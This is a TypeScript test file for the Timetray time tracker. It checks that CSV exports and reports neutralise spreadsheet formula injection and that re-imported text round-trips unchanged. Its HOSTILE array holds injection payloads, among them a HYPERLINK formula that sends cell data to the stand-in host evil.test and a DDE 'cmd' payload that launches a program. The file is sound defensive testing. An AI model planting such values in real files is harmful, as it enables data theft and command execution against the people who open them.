/**
 * A spreadsheet runs a cell that starts with = + - @ (or tab / carriage return before one) as a
 * formula: a description a server sent, or a tag someone else typed, must open as text. Judged by
 * opening what Timetray writes the way a spreadsheet would (first character of each cell), and by
 * importing our own export back: the user's text comes back as they typed it.
 */
import { parse } from 'csv-parse/sync';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createAppApi } from '../../electron/core/app-api';
import { cli } from '../helpers/cli';
import { tempDir, testCore } from '../helpers/temp';

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Text a user or a server could have put in a cell, each one a formula to a spreadsheet. */
const HOSTILE = [
  '=HYPERLINK("http://evil.test?"&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=already quoted",
  "'tis the season",
];

/** Tags may not hold commas (export joins them with one). */
const tagOf = (text: string) => text.replace(/,/g, ';');

let dir: string;
let cleanup: () => void;
beforeEach(() => ({ dir, cleanup } = tempDir('timetray-csv-')));
afterEach(() => cleanup());

const json = (d: string, args: string[]) => {
  const sep = args.indexOf('--');
  const r = cli(d, sep < 0 ? [...args, '--json'] : [...args.slice(0, sep), '--json', ...args.slice(sep)]);
  expect(r.stderr).toBe('');
  expect(r.code).toBe(0);
  return JSON.parse(r.stdout);
};

describe('CSV formula neutralising', () => {
  it('timetray export --format csv writes no cell a spreadsheet would run, and import gives back the text typed', () => {
    HOSTILE.forEach((text, i) => {
      const start = `2026-01-${String(10 + i).padStart(2, '0')}T09:00:00Z`;
      json(dir, ['add', '--start', start, '--duration', '1h', `--project=${text}`, `--tag=${tagOf(text)}`, '--tag=-neg', '--', text]);
    });
    const original = json(dir, ['list']);
    expect(original.map((e: { description: string }) => e.description).sort()).toEqual(HOSTILE.map((h) => h.trim()).sort());

    const ex = cli(dir, ['export', '--format', 'csv']);
    expect(ex.code).toBe(0);
    const cells = (parse(ex.stdout) as string[][]).flat();
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    // Numbers stay numbers: a duration is never prefixed.
    expect((parse(ex.stdout, { columns: true }) as { duration_seconds: string }[]).map((r) => r.duration_seconds)).toContain('3600');

    const file = join(dir, 'out.csv');
    writeFileSync(file, ex.stdout);
    const other = tempDir('timetray-csv-import-');
    try {
      expect(json(other.dir, ['import', file])).toMatchObject({ imported: HOSTILE.length, skipped: 0 });
      expect(json(other.dir, ['list'])).toEqual(original);
    } finally {
      other.cleanup();
    }
  });

  it('a hand-made CSV whose text merely starts with an apostrophe keeps it', () => {
    const file = join(dir, 'in.csv');
    writeFileSync(file, "description,start,end\n'tis the season,2026-01-15T09:00:00Z,2026-01-15T10:00:00Z\n");
    json(dir, ['import', file]);
    expect(json(dir, ['list']).map((e: { description: string }) => e.description)).toEqual(["'tis the season"]);
  });

  it('the reports CSV the window saves neutralises tag and project names', async () => {
    const t = testCore({ now: '2026-01-20T12:00:00Z' });
    const api = createAppApi({ core: t.core, host: 'browser', version: 'test', watchMs: 20 });
    try {
      HOSTILE.forEach((text, i) => {
        t.core.entries.create({ description: text, start: `2026-01-${String(10 + i).padStart(2, '0')}T09:00:00Z`, end: `2026-01-${String(10 + i).padStart(2, '0')}T10:00:00Z`, tags: [tagOf(text)], project_id: text });
      });
      for (const by of ['tag', 'project']) {
        const r = await api.dispatch('reports.csv', [{ from: '2026-01-01', to: '2026-01-31', group: 'week', by }]);
        expect(r.ok).toBe(true);
        if (!r.ok) return;
        const rows = parse(r.value as string) as string[][];
        expect(rows.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
        // Split by project, names and ids are cells of their own rows (the header names the columns).
        if (by === 'project') expect(rows.flat()).toContain("'=HYPERLINK(\"http://evil.test?\"&A1,\"click\")");
      }
    } finally {
      api.close();
      t.done();
    }
  });
});
